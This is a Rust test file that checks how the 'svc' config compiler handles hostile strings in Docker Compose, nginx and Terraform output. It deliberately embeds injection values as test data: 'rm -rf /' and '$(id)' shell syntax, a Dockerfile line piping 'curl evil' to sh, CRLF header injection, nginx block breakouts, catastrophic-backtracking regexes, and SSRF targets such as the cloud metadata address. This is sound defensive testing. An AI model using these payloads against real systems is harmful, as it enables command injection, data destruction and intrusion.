//! Hostile strings in every place a config carries one (service names, env names, roots,
//! entrypoints, commands, patterns, header keys and values, redirect destinations, hosts), through
//! every target. Each is either rejected with a diagnostic naming its key, or emitted so that
//! `docker compose config`, `nginx -t` and `terraform fmt` accept every file and the value reads
//! back as exactly what the config said.

mod fuzz_support;
mod support;

use fuzz_support::nginx_tokens::{self, Directive};
use serde_json::{Value, json};
use std::path::Path;
use std::process::Command;
use support::{require_tool, scratch_dir};
use svc::emit::registry::TARGETS;
use svc::emit::request::{Request, run};

enum Expect {
    /// Refused with this diagnostic code, on a key that contains this text.
    Rejected(&'static str, &'static str),
    /// Emitted; every target's validator accepts it, and each of these reads back.
    Means(Vec<Means>),
}

enum Means {
    /// compose.yaml: `services.<service>.environment.<name>` is exactly this.
    ComposeEnv(&'static str, &'static str, String),
    /// compose.yaml: `services.<service>.command` is exactly these words.
    ComposeCommand(&'static str, Vec<String>),
    /// nginx.conf, as nginx reads it: some `<directive>` has exactly these arguments.
    Nginx(&'static str, Vec<String>),
    /// nginx.conf, as nginx reads it: some argument contains this text.
    NginxContains(&'static str),
    /// Some terraform file holds this exact string (as HCL reads it back).
    Terraform(String),
}

struct Case {
    name: &'static str,
    config: Value,
    settings: Option<Value>,
    expect: Expect,
}

/// A frontend that binds a private backend, both built from source, and a catch-all rewrite.
fn base() -> Value {
    json!({
        "services": {
            "web": {
                "root": "web",
                "framework": "vite",
                "bindings": [{ "service": "api", "format": "url", "env": "API_URL" }]
            },
            "api": { "root": "api", "framework": "fastapi" }
        },
        "rewrites": [{ "source": "/(.*)", "destination": { "service": "web" } }]
    })
}

fn case(name: &'static str, edit: impl FnOnce(&mut Value), expect: Expect) -> Case {
    let mut config = base();
    edit(&mut config);
    Case {
        name,
        config,
        settings: None,
        expect,
    }
}

fn with_settings(mut case: Case, settings: Value) -> Case {
    case.settings = Some(settings);
    case
}

fn rejected(code: &'static str, key: &'static str) -> Expect {
    Expect::Rejected(code, key)
}

fn means(items: Vec<Means>) -> Expect {
    Expect::Means(items)
}

fn words(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| s.to_string()).collect()
}

/// A literal `$` as svc's nginx config spells it (nginx has no escape for it).
fn nginx_literal(text: &str) -> String {
    text.replace('$', "${svc_dollar}")
}

fn header_rule(key: &str, value: &str) -> impl FnOnce(&mut Value) {
    let rule = json!({ "source": "/(.*)", "headers": [{ "key": key, "value": value }] });
    move |c| c["headers"] = json!([rule])
}

fn redirect(destination: &str) -> impl FnOnce(&mut Value) {
    let rule = json!({ "source": "/old", "destination": destination, "permanent": false });
    move |c| c["redirects"] = json!([rule])
}

fn rename_service(from: &str, to: &str) -> impl FnOnce(&mut Value) {
    let (from, to) = (from.to_string(), to.to_string());
    move |c| {
        let services = c["services"].as_object_mut().unwrap();
        let service = services.remove(&from).unwrap();
        services.insert(to, service);
    }
}

fn cases() -> Vec<Case> {
    let long_name = "a".repeat(65);
    vec![
        // Service names: they become hostnames, compose keys, terraform resource names.
        case(
            "service name with a semicolon",
            rename_service("api", "api;}"),
            rejected("invalid-service-name", "services[\"api;}\"]"),
        ),
        case(
            "service name with a newline",
            rename_service("api", "api\nx"),
            rejected("invalid-service-name", "services[\"api\\nx\"]"),
        ),
        case(
            "service name with a dollar",
            rename_service("api", "api$x"),
            rejected("invalid-service-name", "services.api$x"),
        ),
        case(
            "service name with a path",
            rename_service("api", "../api"),
            rejected("invalid-service-name", "services[\"../api\"]"),
        ),
        case(
            "service name in capitals",
            rename_service("api", "API"),
            rejected("invalid-service-name", "services.API"),
        ),
        case(
            "service name of 65 letters",
            rename_service("api", &long_name),
            rejected(
                "invalid-service-name",
                "services.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            ),
        ),
        case(
            "empty service name",
            rename_service("api", ""),
            rejected("invalid-service-name", "services[\"\"]"),
        ),
        case(
            "service name with a quote",
            rename_service("api", "a\"b"),
            rejected("invalid-service-name", "services[\"a\\\"b\"]"),
        ),
        // Env names: they become compose environment keys and ECS variable names.
        case(
            "env name with a space",
            |c| c["services"]["web"]["bindings"][0]["env"] = json!("API URL"),
            rejected("invalid-env-name", "bindings[0].env"),
        ),
        case(
            "env name with an equals sign",
            |c| c["services"]["web"]["bindings"][0]["env"] = json!("A=B"),
            rejected("invalid-env-name", "bindings[0].env"),
        ),
        case(
            "env name starting with a digit",
            |c| c["services"]["web"]["bindings"][0]["env"] = json!("1API"),
            rejected("invalid-env-name", "bindings[0].env"),
        ),
        case(
            "env name with a newline",
            |c| c["services"]["web"]["bindings"][0]["env"] = json!("API\nURL"),
            rejected("invalid-env-name", "bindings[0].env"),
        ),
        case(
            "env name with interpolation",
            |c| c["services"]["web"]["bindings"][0]["env"] = json!("${HOME}"),
            rejected("invalid-env-name", "bindings[0].env"),
        ),
        case(
            "env name PORT, which svc sets",
            |c| c["services"]["web"]["bindings"][0]["env"] = json!("PORT"),
            rejected("reserved-env-name", "bindings[0].env"),
        ),
        case(
            "env name in lower case is kept",
            |c| c["services"]["web"]["bindings"][0]["env"] = json!("api_url"),
            means(vec![Means::ComposeEnv(
                "web",
                "api_url",
                "http://api.internal:8000".into(),
            )]),
        ),
        // Roots: directories inside the project.
        case(
            "root that leaves the project",
            |c| c["services"]["api"]["root"] = json!("../outside"),
            rejected("invalid-root", "services.api.root"),
        ),
        case(
            "absolute root",
            |c| c["services"]["api"]["root"] = json!("/etc"),
            rejected("invalid-root", "services.api.root"),
        ),
        case(
            "root with a newline",
            |c| c["services"]["api"]["root"] = json!("api\nx"),
            rejected("root-not-found", "services.api.root"),
        ),
        case(
            "root with shell syntax",
            |c| c["services"]["api"]["root"] = json!("api;$(id)"),
            rejected("root-not-found", "services.api.root"),
        ),
        case(
            "root that climbs back in",
            |c| c["services"]["api"]["root"] = json!("web/../api/"),
            means(vec![Means::ComposeEnv(
                "web",
                "API_URL",
                "http://api.internal:8000".into(),
            )]),
        ),
        // Entrypoints: written into generated Dockerfiles.
        case(
            "entrypoint with shell syntax",
            |c| c["services"]["api"]["entrypoint"] = json!("main.py; rm -rf /"),
            rejected("entrypoint-not-found", "services.api.entrypoint"),
        ),
        case(
            "entrypoint that leaves the root",
            |c| c["services"]["api"]["entrypoint"] = json!("../web/main.py"),
            rejected("invalid-entrypoint", "services.api.entrypoint"),
        ),
        case(
            "entrypoint with a newline",
            |c| c["services"]["api"]["entrypoint"] = json!("main.py\nUSER root"),
            rejected("entrypoint-not-found", "services.api.entrypoint"),
        ),
        case(
            "module entrypoint with a newline",
            |c| c["services"]["api"]["entrypoint"] = json!("main:app\nUSER root"),
            rejected("entrypoint-not-found", "services.api.entrypoint"),
        ),
        // Commands (svc.yaml): compose and ECS take them as lists, never through a shell.
        case(
            "command string with shell syntax",
            |c| c["services"]["api"]["command"] = json!("uvicorn main:app; rm -rf /"),
            means(vec![Means::ComposeCommand(
                "api",
                words(&["sh", "-c", "uvicorn main:app; rm -rf /"]),
            )]),
        ),
        case(
            "command list with interpolation",
            |c| c["services"]["api"]["command"] = json!(["sh", "-c", "echo ${HOME} $$ \"q\""]),
            means(vec![
                Means::ComposeCommand("api", words(&["sh", "-c", "echo ${HOME} $$ \"q\""])),
                Means::Terraform("echo ${HOME} $$ \"q\"".into()),
            ]),
        ),
        case(
            "command with a newline",
            |c| c["services"]["api"]["command"] = json!(["echo", "a\nb"]),
            means(vec![Means::ComposeCommand("api", words(&["echo", "a\nb"]))]),
        ),
        case(
            "empty command",
            |c| c["services"]["api"]["command"] = json!([]),
            rejected("invalid-length", "services.api.command"),
        ),
        // Patterns: regexes nginx runs on every request.
        case(
            "nested quantifier in a source",
            |c| c["rewrites"][0]["source"] = json!("/x/:a((?:a+)+)"),
            rejected("unsafe-pattern", "rewrites[0].source"),
        ),
        case(
            "repeated parameter that overlaps itself",
            |c| c["rewrites"][0]["source"] = json!("/x/:p(.*)+/end"),
            rejected("unsafe-pattern", "rewrites[0].source"),
        ),
        case(
            "nested quantifier in a condition",
            |c| {
                c["rewrites"][0]["has"] =
                    json!([{ "type": "header", "key": "x-a", "value": "(a+)+$" }])
            },
            rejected("unsafe-pattern", "rewrites[0].has[0].value"),
        ),
        case(
            "recursion in a condition",
            |c| {
                c["rewrites"][0]["has"] =
                    json!([{ "type": "header", "key": "x-a", "value": "x(?R)" }])
            },
            rejected("unsafe-pattern", "rewrites[0].has[0].value"),
        ),
        case(
            "unbalanced group in a condition",
            |c| {
                c["rewrites"][0]["has"] = json!([{ "type": "header", "key": "x-a", "value": "(a" }])
            },
            rejected("invalid-pattern", "rewrites[0].has[0].value"),
        ),
        case(
            "unbalanced group in a source",
            |c| c["rewrites"][0]["source"] = json!("/x/(a"),
            rejected("invalid-pattern", "rewrites[0].source"),
        ),
        case(
            "source that closes the nginx block",
            |c| c["rewrites"][0]["source"] = json!("/a\"; } server { listen 81; }"),
            rejected("invalid-pattern", "rewrites[0].source"),
        ),
        case(
            "separated repetition is safe",
            |c| c["rewrites"][0]["source"] = json!("/docs/:p([^/]+)*"),
            means(vec![Means::NginxContains("(?:[^/]+)")]),
        ),
        case(
            "pattern of 5000 characters",
            |c| c["rewrites"][0]["source"] = json!(format!("/{}", "a".repeat(5000))),
            rejected("invalid-length", "rewrites[0].source"),
        ),
        case(
            "a value too long for nginx once written",
            header_rule("X-A", &"$".repeat(400)),
            rejected("nginx-untranslatable", "headers[0]"),
        ),
        // Header keys and values.
        case(
            "header key with a space",
            header_rule("X Evil", "1"),
            rejected("invalid-header-name", "headers[0].headers[0].key"),
        ),
        case(
            "header key with a colon",
            header_rule("X-A:", "1"),
            rejected("invalid-header-name", "headers[0].headers[0].key"),
        ),
        case(
            "header key with a newline",
            header_rule("X-A\nX-B", "1"),
            rejected("invalid-header-name", "headers[0].headers[0].key"),
        ),
        case(
            "header value with a newline",
            header_rule("X-A", "a\r\nSet-Cookie: x=1"),
            rejected("invalid-header-value", "headers[0].headers[0].value"),
        ),
        case(
            "header value that closes the directive",
            header_rule("X-A", "a\"; add_header X-Evil 1; #"),
            means(vec![Means::Nginx(
                "set",
                words(&["$svc_h0", "a\"; add_header X-Evil 1; #"]),
            )]),
        ),
        case(
            "header value with nginx variables",
            header_rule("X-A", "$host ${remote_addr} $$"),
            means(vec![Means::Nginx(
                "set",
                vec!["$svc_h0".into(), nginx_literal("$host ${remote_addr} $$")],
            )]),
        ),
        case(
            "header value with a backslash and quotes",
            header_rule("X-A", "a\\\"b'c"),
            means(vec![Means::Nginx("set", words(&["$svc_h0", "a\\\"b'c"]))]),
        ),
        case(
            "header value with a tab",
            header_rule("X-A", "a\tb"),
            means(vec![Means::Nginx("set", words(&["$svc_h0", "a\tb"]))]),
        ),
        case(
            "header value in unicode",
            header_rule("X-A", "é ﬀ \u{202e}"),
            means(vec![Means::Nginx(
                "set",
                words(&["$svc_h0", "é ﬀ \u{202e}"]),
            )]),
        ),
        // Redirect destinations.
        case(
            "redirect to a relative path with a space",
            redirect("/new path"),
            rejected("invalid-destination", "redirects[0].destination"),
        ),
        case(
            "redirect with a newline",
            redirect("/new\nLocation: https://evil.example"),
            rejected("invalid-destination", "redirects[0].destination"),
        ),
        case(
            "redirect with nginx variables",
            redirect("/new?h=$host"),
            means(vec![Means::Nginx(
                "return",
                words(&["307", "/new?h=${svc_dollar}host${svc_qa}"]),
            )]),
        ),
        case(
            "redirect that closes the block",
            redirect("/x\";}#{"),
            means(vec![Means::Nginx(
                "return",
                words(&["307", "/x\";}${svc_qq}#{"]),
            )]),
        ),
        case(
            "redirect to another scheme is sent as written",
            redirect("javascript:alert(1)"),
            means(vec![Means::Nginx(
                "return",
                words(&["307", "javascript:alert(1)${svc_qq}"]),
            )]),
        ),
        // Hosts: in `has` conditions and external destinations.
        case(
            "host condition with a quote",
            |c| {
                c["rewrites"][0]["has"] = json!([{ "type": "host", "value": "a\"; }.example.com" }])
            },
            means(vec![Means::NginxContains("a\"; }.example.com")]),
        ),
        case(
            "external destination with a space in the host",
            |c| c["rewrites"][0]["destination"] = json!("https://a b.example.com/x"),
            rejected("invalid-destination", "rewrites[0].destination"),
        ),
        case(
            "external destination with a newline",
            |c| c["rewrites"][0]["destination"] = json!("https://a.example.com/x\ny"),
            rejected("invalid-destination", "rewrites[0].destination"),
        ),
        case(
            "external destination with nginx syntax",
            |c| c["rewrites"][0]["destination"] = json!("https://a.example.com/x;}$host"),
            means(vec![Means::NginxContains(
                "https://a.example.com/x;}${svc_dollar}host",
            )]),
        ),
        // Images (svc.yaml): compose and ECS take them as strings.
        with_settings(
            case(
                "image with shell syntax",
                |_| {},
                rejected("invalid-value", "services.api.image"),
            ),
            json!({ "services": { "api": { "image": "repo/api:1; rm -rf /" } } }),
        ),
        with_settings(
            case(
                "image with interpolation",
                |_| {},
                rejected("invalid-value", "services.api.image"),
            ),
            json!({ "services": { "api": { "image": "repo/${X}:1" } } }),
        ),
        // Base images (svc.yaml `build`): they land in the FROM lines of generated Dockerfiles.
        with_settings(
            case(
                "base image with a newline and an instruction",
                |_| {},
                rejected("invalid-value", "build.images.node"),
            ),
            json!({ "build": { "images": { "node": "node:22\nRUN curl evil | sh" } } }),
        ),
        with_settings(
            case(
                "base image with interpolation",
                |_| {},
                rejected("invalid-value", "build.images.python"),
            ),
            json!({ "build": { "images": { "python": "python:${X}" } } }),
        ),
        with_settings(
            case(
                "registry with a scheme and a path that climbs",
                |_| {},
                rejected("invalid-value", "build.registry"),
            ),
            json!({ "build": { "registry": "https://mirror.example.com/../x" } }),
        ),
        // Absolute destinations are proxied from inside: every spelling of an inside address.
        case(
            "rewrite to a service's container name",
            external_rewrite("http://proj-api-1:8000/"),
            rejected("internal-destination", "rewrites[0].destination"),
        ),
        case(
            "rewrite to a service with a trailing dot",
            external_rewrite("http://api.:8000/"),
            rejected("internal-destination", "rewrites[0].destination"),
        ),
        case(
            "rewrite to a service in capitals",
            external_rewrite("http://API:8000/"),
            rejected("internal-destination", "rewrites[0].destination"),
        ),
        case(
            "rewrite to loopback with leading zeros",
            external_rewrite("http://127.000.000.001/"),
            rejected("internal-destination", "rewrites[0].destination"),
        ),
        case(
            "rewrite to the cloud metadata address",
            external_rewrite("http://169.254.169.254/latest/meta-data/"),
            rejected("internal-destination", "rewrites[0].destination"),
        ),
        case(
            "rewrite to an IPv4-mapped loopback",
            external_rewrite("http://[::ffff:127.0.0.1]/"),
            rejected("internal-destination", "rewrites[0].destination"),
        ),
        case(
            "rewrite with credentials",
            external_rewrite("http://user:pw@example.com/"),
            rejected("internal-destination", "rewrites[0].destination"),
        ),
    ]
}

/// A first rewrite that proxies `/ext/...` to `url`.
fn external_rewrite(url: &'static str) -> impl FnOnce(&mut Value) {
    move |config| {
        config["rewrites"]
            .as_array_mut()
            .unwrap()
            .insert(0, json!({ "source": "/ext/:path*", "destination": url }));
    }
}

#[test]
fn hostile_strings_are_rejected_or_read_back_exactly_in_every_target() {
    let test = "hostile_strings_are_rejected_or_read_back_exactly_in_every_target";
    let tools = (
        require_tool("docker", test),
        require_tool("nginx", test),
        require_tool("terraform", test),
    );
    let cases = cases();
    assert!(cases.len() >= 50, "the table needs at least 50 cases");
    let mut failures = Vec::new();
    for (i, case) in cases.iter().enumerate() {
        if let Err(failure) = run_case(i, case, &tools) {
            failures.push(format!("{}: {failure}", case.name));
        }
    }
    assert!(
        failures.is_empty(),
        "{} cases failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

type Tools = (
    Option<std::path::PathBuf>,
    Option<std::path::PathBuf>,
    Option<std::path::PathBuf>,
);

fn run_case(i: usize, case: &Case, tools: &Tools) -> Result<(), String> {
    let dir = scratch_dir(&format!("hostile-all-{i}"));
    write(
        &dir.join("web/package.json"),
        r#"{"dependencies":{"vite":"5.0.0"},"scripts":{"build":"vite build"}}"#,
    );
    write(
        &dir.join("api/main.py"),
        "from fastapi import FastAPI\napp = FastAPI()\n",
    );
    write(&dir.join("api/requirements.txt"), "fastapi\nuvicorn\n");
    let config_path = dir.join("vercel.json");
    write(&config_path, &case.config.to_string());
    if let Some(settings) = &case.settings {
        write(&dir.join("svc.json"), &settings.to_string());
    }
    let compilation = svc::compile::compile(&config_path).map_err(|e| e.to_string())?;
    let out = dir.join("deploy");
    let request = Request {
        compilation: &compilation,
        config_path: &config_path,
        targets: TARGETS,
        out: Some(&out),
    };
    let emitted = run(&request);
    let check = std::process::Command::new(env!("CARGO_BIN_EXE_svc"))
        .arg("check")
        .arg("-c")
        .arg(&config_path)
        .output()
        .map_err(|e| e.to_string())?;
    if check.status.success() != emitted.is_ok() {
        return Err(format!(
            "`svc check` {} but `svc emit --target all` {}: {}",
            if check.status.success() {
                "passes"
            } else {
                "fails"
            },
            if emitted.is_ok() { "passes" } else { "fails" },
            String::from_utf8_lossy(&check.stderr)
        ));
    }
    match (&case.expect, emitted) {
        (Expect::Rejected(code, key), Err(diagnostics)) => {
            let found = diagnostics
                .iter()
                .any(|d| d.code == *code && d.key.as_deref().is_some_and(|k| k.contains(key)));
            if found {
                Ok(())
            } else {
                Err(format!(
                    "expected {code} on {key}, got {:?}",
                    diagnostics
                        .iter()
                        .map(|d| (d.code, d.key.clone()))
                        .collect::<Vec<_>>()
                ))
            }
        }
        (Expect::Rejected(code, _), Ok(_)) => Err(format!("expected {code}, but it was emitted")),
        (Expect::Means(_), Err(diagnostics)) => Err(format!(
            "expected it emitted, got {:?}",
            diagnostics
                .iter()
                .map(|d| (d.code, d.key.clone(), d.message.clone()))
                .collect::<Vec<_>>()
        )),
        (Expect::Means(meanings), Ok(output)) => {
            for (path, content) in &output.files {
                write(&out.join(path), content);
            }
            validate(&out, tools)?;
            meanings.iter().try_for_each(|m| check_meaning(&out, m))
        }
    }
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// Each target's own validator on what svc wrote.
fn validate(out: &Path, (docker, nginx, terraform): &Tools) -> Result<(), String> {
    if let Some(docker) = docker {
        let compose = out.join("compose");
        let output = Command::new(docker)
            .args(["compose", "-f", "compose.yaml", "config", "-q"])
            .current_dir(&compose)
            .output()
            .unwrap();
        if !output.status.success() {
            return Err(format!(
                "docker compose config: {}",
                String::from_utf8_lossy(&output.stderr)
            ));
        }
    }
    if let Some(nginx) = nginx {
        let scratch = out.join("nginx-check");
        std::fs::create_dir_all(&scratch).unwrap();
        support::gateway::syntax_check(nginx, &scratch, &read(&out.join("nginx/nginx.conf")))
            .map_err(|e| format!("nginx -t: {e}"))?;
    }
    if let Some(terraform) = terraform {
        let output = Command::new(terraform)
            .args(["fmt", "-check", "-recursive"])
            .arg(out.join("terraform"))
            .env("TF_CLI_CONFIG_FILE", "/dev/null")
            .output()
            .unwrap();
        if !output.status.success() {
            return Err(format!(
                "terraform fmt: {}",
                String::from_utf8_lossy(&output.stdout)
            ));
        }
    }
    Ok(())
}

fn check_meaning(out: &Path, meaning: &Means) -> Result<(), String> {
    match meaning {
        Means::ComposeEnv(service, name, value) => {
            let compose = compose(out);
            let found = &compose["services"][service]["environment"][name];
            (found == &json!(value)).then_some(()).ok_or_else(|| {
                format!("compose: {service}.environment.{name} is {found}, not {value:?}")
            })
        }
        Means::ComposeCommand(service, command) => {
            let compose = compose(out);
            let found = &compose["services"][service]["command"];
            (found == &json!(command))
                .then_some(())
                .ok_or_else(|| format!("compose: {service}.command is {found}, not {command:?}"))
        }
        Means::Nginx(directive, args) => {
            let conf = nginx_tokens::read(&read(&out.join("nginx/nginx.conf")))?;
            let mut wanted = vec![directive.to_string()];
            wanted.extend(args.iter().cloned());
            find_directive(&conf, &wanted)
                .then_some(())
                .ok_or_else(|| format!("nginx reads no `{}`", wanted.join(" ")))
        }
        Means::NginxContains(text) => {
            let conf = nginx_tokens::read(&read(&out.join("nginx/nginx.conf")))?;
            any_word(&conf, &|w| w.contains(text))
                .then_some(())
                .ok_or_else(|| format!("no nginx argument contains {text:?}"))
        }
        Means::Terraform(text) => {
            let mut found = false;
            for file in std::fs::read_dir(out.join("terraform")).unwrap() {
                let path = file.unwrap().path();
                if path.extension().is_some_and(|e| e == "tf") {
                    let body =
                        hcl::parse(&read(&path)).map_err(|e| format!("{}: {e}", path.display()))?;
                    found |= body_strings(&body).iter().any(|s| s == text);
                }
            }
            found
                .then_some(())
                .ok_or_else(|| format!("no terraform string is {text:?}"))
        }
    }
}

/// The compose model as Compose itself resolves it (interpolation done), with `$$` read as
/// the `$` a container sees: `docker compose config` prints every literal `$` as `$$` again.
/// Without Compose, the file itself.
fn compose(out: &Path) -> Value {
    let dir = out.join("compose");
    let model: Value = match support::find_tool("docker") {
        Some(docker) => {
            let output = support::compose::run(
                Command::new(docker)
                    .args([
                        "compose",
                        "-f",
                        "compose.yaml",
                        "config",
                        "--format",
                        "json",
                    ])
                    .current_dir(&dir),
            );
            serde_json::from_slice(&output.stdout).unwrap()
        }
        None => serde_saphyr::from_str(&read(&dir.join("compose.yaml"))).unwrap(),
    };
    unescape_dollars(model)
}

fn unescape_dollars(value: Value) -> Value {
    match value {
        Value::String(s) => Value::String(s.replace("$$", "$")),
        Value::Array(items) => Value::Array(items.into_iter().map(unescape_dollars).collect()),
        Value::Object(map) => Value::Object(
            map.into_iter()
                .map(|(k, v)| (k, unescape_dollars(v)))
                .collect(),
        ),
        other => other,
    }
}

fn any_word(directives: &[Directive], test: &dyn Fn(&str) -> bool) -> bool {
    directives.iter().any(|d| {
        d.words.iter().skip(1).any(|w| test(w))
            || d.block.as_deref().is_some_and(|b| any_word(b, test))
    })
}

fn find_directive(directives: &[Directive], wanted: &[String]) -> bool {
    directives.iter().any(|d| {
        d.words == wanted
            || d.block
                .as_deref()
                .is_some_and(|b| find_directive(b, wanted))
    })
}

/// Every string literal of an HCL body, as terraform reads it (`$${` is a literal `${`).
fn body_strings(body: &hcl::Body) -> Vec<String> {
    let mut found = Vec::new();
    for attribute in body.attributes() {
        expression_strings(&attribute.expr, &mut found);
    }
    for block in body.blocks() {
        found.extend(body_strings(&block.body));
    }
    found
}

fn expression_strings(expr: &hcl::Expression, found: &mut Vec<String>) {
    use hcl::eval::{Context, Evaluate};
    use hcl::expr::Expression;
    match expr {
        Expression::String(s) => found.push(s.clone()),
        Expression::TemplateExpr(_) => {
            if let Ok(hcl::Value::String(s)) = expr.evaluate(&Context::new()) {
                found.push(s);
            }
        }
        Expression::Array(items) => items.iter().for_each(|e| expression_strings(e, found)),
        Expression::Object(object) => object.values().for_each(|e| expression_strings(e, found)),
        Expression::FuncCall(call) => call.args.iter().for_each(|e| expression_strings(e, found)),
        Expression::Parenthesis(inner) => expression_strings(inner, found),
        _ => {}
    }
}
